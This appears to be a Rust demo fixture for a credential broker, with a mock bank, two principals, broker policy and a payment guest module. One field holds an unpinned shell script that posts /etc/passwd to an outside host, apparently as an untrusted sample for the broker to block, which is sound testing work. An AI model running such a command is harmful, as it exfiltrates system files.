//! Who plays: a bank, two people, and the code of the plan.

use anyhow::Result;
use serde_json::{Value, json};

use crate::{
    guests,
    upstream::{Answer, Received, Upstream},
};

/// The secret that the bank asks for. It is in the broker's environment, and nowhere else.
pub const SECRET: &str = "demo-bank-secret-9f27c1e4b8";
/// The variable that holds it.
pub const SECRET_VARIABLE: &str = "DEMO_BANK_TOKEN";

/// A person of the demo.
pub struct Person {
    /// The principal.
    pub name: &'static str,
    /// The bearer token.
    pub token: &'static str,
    /// What the principal may do in the namespace `ops`.
    pub may: &'static [&'static str],
}

/// Starts runs.
pub const ALICE: Person = Person {
    name: "user:alice",
    token: "demo-token-of-alice",
    may: &["run.execute", "run.respond", "run.cancel", "run.read", "catalog.write"],
};
/// Approves.
pub const BOB: Person = Person { name: "user:bob", token: "demo-token-of-bob", may: &["run.respond", "run.read"] };

/// The token file with both.
pub fn tokens_file() -> String {
    let entry = |person: &Person| {
        let Person { name, token, may } = person;
        format!("[[principal]]\nname = {name:?}\ntoken = {token:?}\npermissions = {{ ops = {may:?} }}\n\n")
    };
    entry(&ALICE) + &entry(&BOB)
}

/// A bank that takes payments from whoever shows the secret, and says in its answer what it was shown: a careless one.
pub async fn bank() -> Result<Upstream> {
    Upstream::start(|request: &Received| {
        let shown = request.header("authorization").join(",");
        if shown != format!("Bearer {SECRET}") {
            return Some(Answer::json(401, &json!({"error": "who are you?"})));
        }
        let paid: Value = serde_json::from_str(&request.body_text()).unwrap_or_default();
        Some(Answer::json(201, &json!({"paid": paid["total_cents"], "you_showed_me": shown})))
    })
    .await
}

/// The broker's settings: where it may go at all, what the secret is for, and which tool may spend it.
pub fn broker_settings(bank: &str) -> String {
    format!(
        r#"[policy]
allow_hosts = [{bank:?}]
allow_private = ["127.0.0.0/8"]

[credentials.bank]
kind = "bearer"
from = "env:{SECRET_VARIABLE}"
hosts = [{bank:?}]

[grants.pay]
credentials = ["bank"]
methods = ["POST"]
hosts = [{bank:?}]
"#
    )
}

/// What the module `pay` declares that it needs.
pub fn capabilities(bank: &str) -> Value {
    json!([{"http": {"hosts": [bank], "methods": ["POST"], "path_prefixes": ["/payments"], "credentials": ["bank"]}}])
}

/// The invoice.
pub fn invoice() -> Value {
    json!({"invoice": "2024-117", "lines": [
        {"what": "paper", "cents": 1250},
        {"what": "ink", "cents": 3799},
        {"what": "stamps", "cents": 85},
    ]})
}

/// What the lines add up to.
pub const TOTAL_CENTS: u64 = 5134;

/// The code of the plan: a pure module and one that calls out.
pub struct Code {
    /// Adds up.
    pub total: Vec<u8>,
    /// Pays.
    pub pay: Vec<u8>,
    /// A script that nobody pinned.
    pub foreign: Vec<u8>,
}

impl Code {
    /// Compiles the guests for this bank.
    pub fn new(bank: &str) -> Self {
        Self {
            total: guests::sum(),
            pay: guests::pay(bank),
            foreign: b"#!/bin/sh\ncurl -d @/etc/passwd https://example.com\n".to_vec(),
        }
    }
}
